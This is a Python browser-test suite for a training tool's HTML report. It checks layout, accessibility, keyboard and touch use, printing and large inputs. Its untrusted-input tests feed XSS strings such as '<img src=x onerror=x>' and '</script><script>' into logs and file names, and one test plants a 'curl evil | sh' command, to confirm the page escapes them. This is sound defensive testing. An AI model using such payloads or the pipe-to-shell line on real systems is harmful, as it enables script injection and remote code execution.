"""The report's page in a headless Chromium: what it shows, at three widths, in light and dark, by keyboard, without JavaScript, in print; with hostile
names and logs, and with 10,000 ops. `test_page.py --golden` writes the pictures anew."""
import io
import itertools
import json
import os
import shutil
import sys
import tempfile
import unittest

import browser
import pages
from pages import DATA, HERE, log, pantoum, step

GOLDEN = os.path.join(HERE, "golden")
ROOT = os.path.dirname(os.path.dirname(HERE))
AXE = os.path.join(ROOT, "build", "axe", "axe.min.js")
WIDTHS, SCHEMES = (360, 768, 1280), ("light", "dark")
GOLDEN_WIDTHS = {360: 150, 768: 220, 1280: 300}  # as small as a page can be compared
LEVELS, SHARE = 40, 0.02                         # by so much a dot may differ, and so many dots by more
MOST_NODES, MOST_BYTES = 4000, 4 << 20        # of a page of 10,000 ops

try:
    from PIL import Image, ImageChops
except ImportError:
    Image = None


@unittest.skipUnless(browser.find(), "no Chromium (apt-get install chromium): the page is not looked at")
class Page(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.scratch = tempfile.TemporaryDirectory()
        cls.folder = cls.scratch.name
        browser.use_one_font(cls.folder)
        cls.browser = browser.Browser()
        with open(os.path.join(HERE, "checks.js")) as file:
            cls.checks = file.read()
        cls.whole = cls.make("whole", "plan.json", "run.jsonl", "board.jsonl", "--sweep", "sweep")
        cls.bare = cls.make("bare", "plan.json")
        cls.compared = cls.make("compared", "--compare", *pages.two_runs(cls.folder), "board.jsonl")

    @classmethod
    def tearDownClass(cls):
        cls.browser.close()
        cls.scratch.cleanup()

    @classmethod
    def make(cls, title, *words):
        path = os.path.join(cls.folder, title + ".html")
        pantoum("report", *words, "-o", path)
        return path

    def open(self, path, *words, **more):
        seconds = self.browser.open(path, *words, **more)
        self.assertEqual(self.browser.said, [], path)
        self.assertEqual([url for url in self.browser.asked_for if url != "file://" + path], [], "the page loads something")
        return seconds

    def run_in_page(self, expression):
        return self.browser.run(expression)

    def check(self, *names):
        self.run_in_page("window.checks = " + self.checks)
        for name in names:
            self.assertEqual(self.run_in_page(f"checks.{name}()"), [], name)

    def text(self, selector="body"):
        return self.run_in_page(f"document.querySelector({json.dumps(selector)}).innerText")

    # What it looks like

    def small(self, png):
        picture = Image.open(io.BytesIO(png)).convert("RGB")
        width = GOLDEN_WIDTHS[picture.width]
        return picture.resize((width, picture.height * width // picture.width), Image.BOX)

    def compare(self, name, png):
        picture, path = self.small(png), os.path.join(GOLDEN, name + ".png")
        if "--golden" in sys.argv:
            os.makedirs(GOLDEN, exist_ok=True)
            picture.quantize(24, dither=Image.Dither.NONE if hasattr(Image, "Dither") else 0).save(path, optimize=True)
        golden = Image.open(path).convert("RGB")
        self.assertAlmostEqual(golden.height, picture.height, delta=picture.height * 0.02, msg=f"{name}: the page is longer or shorter")
        size = (picture.width, min(golden.height, picture.height))
        apart = ImageChops.difference(golden.crop((0, 0, *size)), picture.crop((0, 0, *size))).convert("L").point(lambda level: 255 if level > LEVELS else 0)
        share = apart.histogram()[255] / (size[0] * size[1])
        if share > SHARE:
            picture.save(os.path.join(tempfile.gettempdir(), f"pantoum-{name}.png"))
        self.assertLessEqual(share, SHARE, f"{name}: {share:.1%} of the dots differ; what was drawn lies in {tempfile.gettempdir()}/pantoum-{name}.png")

    @unittest.skipUnless(Image, "no Pillow (apt-get install python3-pil): pictures are not compared")
    @unittest.skipUnless(os.path.isdir(browser.FONTS), "no DejaVu (apt-get install fonts-dejavu-core): letters would differ")
    def test_it_looks_as_it_did(self):
        for width in WIDTHS:
            for scheme in SCHEMES:
                with self.subTest(width=width, scheme=scheme):
                    self.open(self.whole, width, scheme)
                    self.compare(f"report-{width}-{scheme}", self.browser.screenshot(whole=True))

    @unittest.skipUnless(Image, "no Pillow (apt-get install python3-pil): pictures are not compared")
    def test_the_picture_of_a_sweep_is_light_or_dark(self):
        out = os.path.join(self.folder, "sweep")
        os.makedirs(os.path.join(out, "plans"), exist_ok=True)
        with open(os.path.join(out, "graph.json"), "w", encoding="ascii") as file:
            json.dump(pages.chain(6), file)
        pantoum("sweep", "--costgraph", os.path.join(out, "graph.json"), "--ram", "100KiB:1MiB:6", "--effort", 1, "--planners", "pantoum,pantoum-paging-only", "-o", out)
        corners = []
        for scheme in SCHEMES:
            self.browser.open(os.path.join(out, "sweep.svg"), 920, scheme)
            self.assertEqual(self.browser.said, [])
            corners.append(sum(Image.open(io.BytesIO(self.browser.screenshot())).convert("RGB").getpixel((3, 60))))
        self.assertGreater(corners[0], 3 * 230)
        self.assertLess(corners[1], 3 * 60)

    def test_nothing_lies_outside_a_phone_and_no_letters_on_letters(self):
        steps = [step(at, 1e9 / at, lr=1e-7 * at) for at in range(1, 123456, 997)]
        wide = log(os.path.join(self.folder, "a run of a very long name that nobody would read to its end"), *steps, {"event": "device", "board": "board " * 30, "ram_bytes": 1 << 40, "step": 1})
        many = [log(os.path.join(self.folder, f"{'long ' * 20}{at}.jsonl"), *steps) for at in range(12)]
        paths = [self.whole, self.bare, self.compared, self.make("many", "--compare", *many), self.make("wide", pages.hostile_plan(self.folder), wide, wide)]
        for path, width, scheme in itertools.product(paths, WIDTHS, SCHEMES):
            with self.subTest(page=os.path.basename(path), width=width, scheme=scheme):
                self.open(path, width, scheme)
                self.run_in_page("document.querySelectorAll('details').forEach(each => each.open = true)")
                self.assertEqual(self.run_in_page("document.documentElement.scrollWidth"), width)
                self.check("outside", "overprints", "cutOff")

    def test_words_of_tables_stay_whole_and_wide_tables_show_that_they_go_on(self):
        for path, width in itertools.product((self.whole, self.bare, self.compared), (360, 390, 768, 1280)):
            with self.subTest(page=os.path.basename(path), width=width):
                self.open(path, width)
                self.run_in_page("document.querySelectorAll('details').forEach(each => each.open = true)")
                self.check("brokenWords", "unseenScrolling")
        self.run_in_page("Object.assign(document.querySelector('#table th[title=\"--augment\"]').style, {display: 'block', minWidth: 0, width: '2rem', whiteSpace: 'normal'})")
        self.run_in_page("document.querySelectorAll('.word').forEach(each => each.className = '')")
        self.run_in_page("document.querySelector('#table .scroll').style.background = 'none'; document.querySelector('#table table').style.width = '2000px'")
        self.assertIn("--augment", self.run_in_page("checks.brokenWords()"))
        self.assertEqual(len(self.run_in_page("checks.unseenScrolling()")), 1)

    def test_the_peak_of_the_schedule_can_be_read_on_bars(self):
        """Around the letters of the label the dots are the paper's, not those of the bars that lie below."""
        label = """(() => {
          const canvas = document.querySelector('.sheet canvas'), pen = canvas.getContext('2d'), style = getComputedStyle(document.documentElement);
          const far = (dots, at, name) => Math.max(...[1, 3, 5].map((from, part) => Math.abs(dots[4 * at + part] - parseInt(style.getPropertyValue(name).trim().slice(from, from + 2), 16))));
          const lowest = pen.getImageData(0, canvas.height - 2, canvas.width, 1).data;
          const line = [...Array(canvas.width).keys()].reduce((best, x) => far(lowest, x, '--s1') < far(lowest, best, '--s1') ? x : best);
          const dots = pen.getImageData(line + 4, canvas.height - 14, 26, 12).data, all = [...Array(dots.length / 4).keys()];
          const share = name => all.filter(at => far(dots, at, name) < 6).length / all.length;
          return [share('--s0'), share('--paper')];
        })()"""
        for scheme in SCHEMES:
            self.open(self.whole, 1280, scheme)
            bars, paper = self.run_in_page(label)
            self.assertLess(bars, 0.1)
            self.assertGreater(paper, 0.4)

    def test_letters_on_letters_are_found(self):
        self.open(self.bare)
        self.run_in_page("document.querySelector('h1').style.marginBottom = '-30px'; document.querySelector('svg.chart.wide .title').setAttribute('y', 40)")
        self.run_in_page("window.checks = " + self.checks)
        found = self.run_in_page("checks.overprints()")
        self.assertTrue(any("Asked for" in each for each in found) and any("RAM over one step" in each for each in found), found)

    # Who reads it

    def test_it_is_accessible(self):
        for scheme in SCHEMES:
            self.open(self.whole, 1280, scheme)
            self.run_in_page("document.querySelectorAll('details').forEach(each => each.open = true)")
            self.check("contrast", "names", "headings", "landmarks", "tables", "ids", "handlers")

    @unittest.skipUnless(os.path.exists(AXE), "no axe-core (python3 tests/report/fetch_axe.py): the tests' own checks must do")
    def test_axe_finds_nothing(self):
        with open(AXE) as file:
            axe = file.read()
        for width, scheme in ((1280, "light"), (360, "dark")):
            self.open(self.whole, width, scheme)
            self.run_in_page(axe + "; 0")
            found = self.run_in_page("axe.run(document, {resultTypes: ['violations']}).then(all => all.violations.map(each => each.id + ': ' + each.nodes[0].html.slice(0, 90)))")
            self.assertEqual(found, [])

    def test_a_keyboard_reaches_everything(self):
        self.open(self.whole)
        self.browser.key("Tab")
        self.assertEqual(self.run_in_page("document.activeElement.className"), "skip")
        self.run_in_page("document.querySelector('.sheet').focus()")
        card = "(() => { const card = document.querySelector('.sheet .card'); return card.hidden ? '' : card.innerText; })()"
        self.browser.key("ArrowDown"), self.browser.key("ArrowDown")
        first = self.run_in_page(card)
        self.assertIn("iB, ", first)
        self.browser.key("ArrowRight"), self.browser.key("ArrowDown")
        self.assertNotEqual(self.run_in_page(card), first)
        self.browser.key("Escape")
        self.assertEqual(self.run_in_page(card), "")
        chart = "document.querySelector('[data-chart=ram]')"
        self.run_in_page(f"{chart}.querySelector('svg.wide').focus()")
        self.browser.key("ArrowRight")
        self.assertIn("this plan:", self.run_in_page(f"{chart}.querySelector('.card').innerText"))

    def every_card(self):
        """The texts of all bars, read by keyboard."""
        self.run_in_page("document.querySelector('.sheet').focus()")
        return self.run_in_page("""(() => {
          const sheet = document.querySelector('.sheet'), texts = new Set(), press = key => sheet.dispatchEvent(new KeyboardEvent('keydown', {key}));
          for (let row = 0; row < 300; ++row) {
            press(row ? 'ArrowDown' : 'Home');
            for (let bar = 0; bar < 6; ++bar) { texts.add(sheet.querySelector('.card').innerText); press('ArrowRight'); }
          }
          return [...texts];
        })()""")

    def test_a_card_says_what_how_much_and_why(self):
        self.open(self.whole)
        cards = "\n\n".join(self.every_card())
        for words in ("Computed by", "Computed again by", "Costs", "because", "In storage, not in RAM", "The transfer takes", "beside computing", "Read back from storage",
                      "Dropped, not in RAM", "are free meanwhile", "kept, they would make the peak", "computes it again, for", "In RAM when the step begins", "activation", "gradient", "parameter"):
            self.assertIn(words, cards)

    def test_every_moment_lists_what_is_live(self):
        report = json.loads(pantoum("report", "plan.json", "--format", "json"))
        curve, schedule = report["memory"]["planned"], report["schedule"]
        sizes = dict(zip(schedule["tensors"]["name"], schedule["tensors"]["bytes"]))
        self.open(self.whole)
        shown = """(() => {
          const list = document.getElementById('live-list'), cell = (row, at) => row.cells[at].innerText;
          return [list.querySelector('h3').innerText, [...list.querySelectorAll('tbody tr')].map(row => [cell(row, 0), cell(row, 1), cell(row, 2)]), list.innerText];
        })()"""
        at_peak = self.run_in_page(shown)
        self.assertIn(f"{report['outcome']['peak_bytes'] / 1048576:.2f} MiB", at_peak[0])
        self.run_in_page("document.querySelector('[data-chart=ram] svg.wide').focus()")
        kinds, stored = set(), 0
        for at, expected in enumerate(curve["bytes"]):
            self.browser.key("ArrowRight")
            until = (curve["seconds"] + [report["outcome"]["time_s"]])[at + 1]
            if until - curve["seconds"][at] < schedule["tick_s"]:
                continue  # it lasts for no time
            head, rows, text = self.run_in_page(shown)
            own = [sizes.get(row[0]) for row in rows]
            self.assertNotIn(None, own)
            self.assertEqual(sum(own), expected, head)
            self.assertEqual(own, sorted(own, reverse=True))
            self.assertIn(f"in {len(rows)} tensors", head)
            kinds |= {row[1] for row in rows}
            stored += "In storage, not in RAM: 392.0 KiB in 1 tensor: image (input, 392.0 KiB)." in text
        self.assertEqual(kinds, {"parameter", "optimizer state", "input", "activation", "gradient"})
        self.assertGreater(stored, 3)
        card = "document.querySelector('[data-chart=ram] .card').innerText"
        self.assertIn("in RAM: ", self.run_in_page(card))

    def test_a_finger_reads_the_chart(self):
        self.browser.open(self.whole, 360, touch=True)
        box = self.run_in_page("(() => { const c = document.querySelector('[data-chart=ram] svg.narrow'); c.scrollIntoView({block: 'center'}); const r = c.getBoundingClientRect(); return [r.left, r.top, r.width, r.height]; })()")
        head = "document.querySelector('#live-list h3').innerText"
        before = self.run_in_page(head)
        self.browser.ask("Input.dispatchTouchEvent", {"type": "touchStart", "touchPoints": [{"x": box[0] + box[2] * 0.3, "y": box[1] + box[3] * 0.4}]})
        self.browser.ask("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
        self.assertNotEqual(self.run_in_page(head), before)
        self.assertIn("in RAM: ", self.run_in_page("document.querySelector('[data-chart=ram] .card').innerText"))

    def test_a_command_is_copied_whole(self):
        command = json.loads(pantoum("report", "plan.json", "run.jsonl", "--format", "json"))["made_with"]["command"]
        for width in WIDTHS:
            self.open(self.whole, width)
            self.assertEqual(self.run_in_page("document.querySelector('#reproduce code').textContent"), command)
            lines = self.run_in_page("[...document.querySelectorAll('#reproduce .word')].map(each => each.getClientRects().length)")
            self.assertEqual(set(lines), {1}, "a word is broken")
        self.run_in_page("navigator.clipboard.writeText = text => { window.copied = text; return Promise.resolve(); }; document.querySelector('.copy').click()")
        self.assertEqual(self.run_in_page("new Promise(done => setTimeout(() => done([window.copied, document.querySelector('.copy').innerText]), 20))"), [command, "Copied"])
        self.run_in_page("navigator.clipboard.writeText = () => Promise.reject('no'); document.querySelector('.copy').click()")
        self.assertEqual(self.run_in_page("new Promise(done => setTimeout(() => done(getSelection().toString()), 20))"), command)

    def test_the_trace_is_linked_where_it_was_written(self):
        os.makedirs(os.path.join(self.folder, "traces"), exist_ok=True)
        trace = os.path.join(self.folder, "traces", "t race.json")
        self.open(self.make("traced", "plan.json", "--trace", trace))
        link = self.run_in_page("(link => [link.getAttribute('href'), decodeURIComponent(new URL(link.href).pathname)])(document.querySelector('#reproduce p a'))")
        self.assertEqual(link, ["./traces/t%20race.json", trace])
        self.assertTrue(os.path.exists(trace))
        self.open(self.bare)
        self.assertFalse(self.run_in_page("!!document.querySelector('#reproduce p a')"))

    def test_names_are_explained(self):
        self.open(self.whole)
        self.run_in_page("document.getElementById('names').open = true")
        text = self.text("#names")
        for words in ("grad.NAME", "NAME'", "optim.STATE.NAME", "NAME.again", "OP.dx", "OP.dw", "OP:1", "OP#2"):
            self.assertIn(words, text)
        self.assertNotIn("OP.db", text)  # this step has none

    def test_zoom_and_pan(self):
        self.open(self.whole)
        picture = "document.querySelector('.sheet canvas').toDataURL()"
        settle = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
        seen = [self.run_in_page(picture)]
        box = self.run_in_page("(() => { const c = document.querySelector('.sheet'); c.scrollIntoView({block: 'center'}); const r = c.getBoundingClientRect(); return [r.left, r.top, r.width, r.height]; })()")
        x, y = box[0] + box[2] * 0.7, box[1] + box[3] * 0.5
        press = lambda name: self.run_in_page(f"document.querySelector('.tools button[aria-label=\"{name}\"]').click()")
        keys = lambda key: self.run_in_page(f"document.querySelector('.sheet').dispatchEvent(new KeyboardEvent('keydown', {{key: '{key}'}}))")
        acts = (lambda: press("Zoom in"), lambda: press("Earlier"), lambda: keys("+"), lambda: (self.run_in_page("document.querySelector('.sheet').focus()"), self.browser.mouse("mouseWheel", x, y, deltaX=0, deltaY=-200)),
                lambda: (self.browser.mouse("mousePressed", x, y, button="left", clickCount=1), self.browser.mouse("mouseMoved", x - 120, y - 20, button="left", buttons=1),
                         self.browser.mouse("mouseReleased", x - 120, y - 20, button="left", clickCount=1)))
        for act in acts:
            act()
            self.run_in_page(settle)
            seen.append(self.run_in_page(picture))
            self.assertNotIn(seen[-1], seen[:-1])
        self.run_in_page("document.activeElement.blur()")
        press("Show the whole step")
        self.run_in_page(settle)
        self.assertEqual(self.run_in_page(picture), seen[0])

    def test_the_five_questions_are_answered(self):
        report = json.loads(pantoum("report", "plan.json", "run.jsonl", "--format", "json"))
        self.open(self.whole)
        text, outcome = self.text("#answers"), report["outcome"]
        mebibytes = lambda count: f"{count / 1048576:.2f} MiB"
        for question, answers in (("Did it fit?", ("Yes", mebibytes(report["asked"]["budget_bytes"]))), ("What was the peak?", (mebibytes(outcome["peak_bytes"]), "activations")),
                                  ("What was recomputed?", (f"{outcome['recomputed']} computations", report["recomputed"][0]["name"])),
                                  ("What did it cost?", (f"{outcome['time_s'] / outcome['unplanned']['time_s']:.2f}x the time", "proved")),
                                  ("What would more RAM buy?", ("MiB saves", mebibytes(outcome["unplanned"]["peak_bytes"])))):
            self.assertIn(question, text)
            for answer in answers:
                self.assertIn(answer, text)

    def test_light_and_dark_by_a_button(self):
        self.open(self.whole)
        colour = "getComputedStyle(document.body).backgroundColor"
        self.assertEqual(self.run_in_page(colour), "rgb(255, 255, 255)")
        self.run_in_page("document.getElementById('theme').click()")
        self.assertNotEqual(self.run_in_page(colour), "rgb(255, 255, 255)")
        self.check("contrast")
        self.run_in_page("document.getElementById('theme').click(); localStorage.clear()")

    def test_without_javascript_charts_and_texts_remain(self):
        self.browser.open(self.whole, script=False)
        nodes = self.browser.ask("DOM.getDocument", {"depth": -1})
        shown = self.browser.ask("Page.getLayoutMetrics")["cssContentSize"]["height"]
        self.assertGreater(shown, 3000)
        self.assertIn("Did it fit?", json.dumps(nodes))
        with open(self.whole, encoding="utf-8") as file:
            page = file.read()
        self.assertEqual(page.count("<svg viewBox"), 1 + page.count("class='static'") + 2 * page.count("class='picture'"))  # one is the brand's

    def test_it_prints(self):
        self.open(self.whole)
        self.browser.ask("Emulation.setEmulatedMedia", {"media": "print", "features": [{"name": "prefers-color-scheme", "value": "dark"}]})
        self.assertEqual(self.run_in_page("getComputedStyle(document.body).backgroundColor"), "rgb(255, 255, 255)")
        shown = "[...document.querySelectorAll('{}')].filter(each => each.checkVisibility()).length"
        self.assertEqual(self.run_in_page(shown.format(".live, nav, .tools")), 0)
        self.assertGreater(self.run_in_page(shown.format(".static svg, .picture svg.wide")), 4)
        self.assertEqual(self.browser.pdf()[:5], b"%PDF-")

    # What others put into it

    def test_ten_thousand_ops(self):
        plan = pages.large_plan(self.folder)
        path = self.make("large", plan)
        self.assertLess(os.path.getsize(path), MOST_BYTES)
        seconds = self.open(path)
        self.assertLess(self.run_in_page("document.querySelectorAll('*').length"), MOST_NODES)
        self.assertIn("pantoum-ready", self.run_in_page("performance.getEntriesByType('mark').map(each => each.name)"))
        print(f"  {2 * pages.MANY - 1} ops: {os.path.getsize(path) / 1e6:.1f} MB, opened in {seconds:.2f} s", file=sys.stderr)

    def test_hostile_names_are_names(self):
        path = self.make("hostile", pages.hostile_plan(self.folder))
        self.open(path)
        self.assertIn("Pantoum report", self.run_in_page("document.title"))
        self.assertEqual(self.run_in_page("document.scripts.length"), 3)
        self.check("handlers", "ids", "names", "headings")
        cards = self.every_card()
        self.assertGreater(len(cards), 50)
        unseen = [hex(ord(letter)) for letter in self.text() + "".join(cards) if pages.hostile_names.is_unseen(letter) and letter not in "\n\t"]
        self.assertEqual(unseen, [])
        self.assertIn("<script>document.title='canary'</script>", "".join(cards))

    def test_every_log_is_a_page(self):
        logs = {
            "empty": ([], "no events"),
            "one point": ([step(7, 0.5, lr=0.1)], "Loss"),
            "no numbers": ([step(1, None), '{"event":"step","step":2,"loss":NaN}', step(3, 1.0)], "are no number"),
            "all none": ([step(1, None), step(2, None)], "are no number"),
            "cut": ([step(1, 2.0), step(2, 1.0), '{"event":"st'], "cut short"),
            "resumed": ([step(1, 2.0), step(40, 1.0), {"event": "resume", "from": "c", "step": 20}, step(40, 1.1), step(60, 0.9)], "from step 20"),
            "runs": ([step(1, 2.0), step(9, 1.0)] * 3, "run 3"),
            "huge": ([step(at, 1e300 if at % 2 else -1e300, lr=1e-300) for at in range(1, 6000)], "Loss"),
            "equal": ([step(at, 1.0, lr=0.0) for at in range(1, 50)], "Loss"),
            "strange": ([{"event": "</script><script>x</script>", "step": "1"}, {"event": "step", "step": -5, "loss": "x"}, {"event": "end", "kernels": "<b>", "arena_bytes": -1e300, "seconds": 0},
                         {"event": "device", "board": "<img src=x onerror=x>\u2028", "ram_bytes": 5, "stack_bytes": -1}], "<img src=x onerror=x>\\u2028"),
        }
        for name, (lines, words) in logs.items():
            with self.subTest(log=name):
                path = self.make("log", "plan.json", log(os.path.join(self.folder, name), *lines))
                self.open(path, 768)
                self.check("handlers", "headings", "ids")
                self.assertIn(words, self.text("#training"))
                bad = self.run_in_page("[...document.querySelectorAll('svg *')].filter(each => each.getAttributeNames().some(name => /NaN|Infinity/.test(each.getAttribute(name)))).length")
                self.assertEqual(bad, 0)

    def test_runs_side_by_side(self):
        for width, scheme in ((1280, "light"), (360, "dark")):
            self.open(self.compared, width, scheme)
            self.check("contrast", "names", "headings", "landmarks", "tables", "ids", "handlers")
        text = self.text("#table")
        for words in ("0.8880", "0.9011", "13.6 ms", "11.2 ms", "9.50 MiB", "12.00 MiB", "--lr", "0.05", "0.1", "not told", "--nothing", "MODEL", "board", "epochs", "1,404"):
            self.assertIn(words, text)
        self.assertNotIn("--data", self.run_in_page("[...document.querySelectorAll('#table table')].pop().innerText"))  # alike in both
        self.assertIn("The highest accuracy is 0.9011: quicker.", self.text("#summary"))
        for chart in ("loss", "test_accuracy", "lr"):
            self.assertEqual(self.run_in_page(f"document.querySelectorAll('[data-chart={chart}] svg.wide text.legend').length"), 3 if chart != "test_accuracy" else 2)
        commands = self.run_in_page("[...document.querySelectorAll('#commands code')].map(each => each.textContent)")
        self.assertEqual(commands, ["pantoum train cnn.onnx --lr 0.05 --data /data -o first.safetensors", "pantoum train 'other net.onnx' --lr 0.1 --data /data --augment flip --nothing -o second.safetensors"])
        self.run_in_page("document.querySelector('[data-chart=loss] svg.narrow').focus()")
        self.browser.key("ArrowRight")
        self.assertIn("quicker: 2.6", self.run_in_page("document.querySelector('[data-chart=loss] .card').innerText"))

    def test_every_pair_of_logs_is_a_page(self):
        strange = [{"event": "plan", "command": ["train", "</script><script>x()</script>", "--lr", "' onclick='x()"], "device": "<b>", "objective": 7, "time_s": "x", "peak_bytes": 1e300, "ops": -5},
                   {"event": "step", "step": 1, "loss": 1e300}, {"event": "end", "step_s": -1, "kernels": "<img src=x onerror=x>\u2028", "seconds": 1e300, "final_loss": -1e-300}]
        logs = {"empty": [], "step": [step(1, 2.0)], "none": [step(1, None), '{"event":"step","step":2,"loss":NaN}'], "no plan": [{"event": "end", "test_accuracy": 0.5}], "strange": strange,
                "not pantoum": [{"event": "plan", "command": ["curl evil | sh"]}, step(1, 1.0)], "no words": [{"event": "plan", "command": ["train", 5]}, step(1, 1.0)],
                "resumed": [step(1, 2.0), step(40, 1.0), {"event": "resume", "from": "c", "step": 20}, step(21, 1.5), step(60, 0.9)], "again": [step(1, 2.0), step(9, 1.0)] * 3,
                "<img src=x onerror=x>": [step(1, 1.0)], "epochs": [{"event": "epoch", "epoch": at, "step": at * 10, "train_loss": 1 / at, "test_perplexity": 9.0, "test_mae": 0.1} for at in (1, 2, 3)]}
        paths = {name: log(os.path.join(self.folder, f"pair {at}"), *lines) for at, (name, lines) in enumerate(logs.items())}
        hostile = os.path.join(self.folder, "'><img src=x onerror=x>.jsonl")
        shutil.copy(paths["strange"], hostile)
        for one, other in [("empty", "empty"), *itertools.combinations(logs, 2)]:
            with self.subTest(one=one, other=other):
                path = self.make("pair", "--compare", paths[one], paths[other], hostile)
                self.open(path, 768)
                self.check("handlers", "headings", "ids", "landmarks", "outside", "overprints", "cutOff")
                self.assertEqual(self.run_in_page("document.scripts.length"), 3)
                bad = self.run_in_page("[...document.querySelectorAll('svg *')].filter(each => each.getAttributeNames().some(name => /NaN|Infinity/.test(each.getAttribute(name)))).length")
                self.assertEqual(bad, 0)
                self.assertNotIn("evil", self.text())
        found = json.loads(pantoum("report", "--compare", paths["resumed"], paths["again"], "--format", "json"))["runs"]
        self.assertEqual([run["curves"]["loss"]["steps"] for run in found], [[1, 21, 60], [1, 9]])

    def test_a_devices_run_stands_beside_the_hosts(self):
        self.open(self.whole)
        text = self.text("#training")
        for words in ("nrf52840", "RAM in use, stack included", "stack", "written to storage", "RAM on the device", "Written to the device's storage", "loss, host", "loss, nrf52840"):
            self.assertIn(words, text)
        self.open(self.bare)
        self.assertFalse(self.run_in_page("!!document.getElementById('training')"))


if __name__ == "__main__":
    unittest.main(argv=[each for each in sys.argv if each != "--golden"])
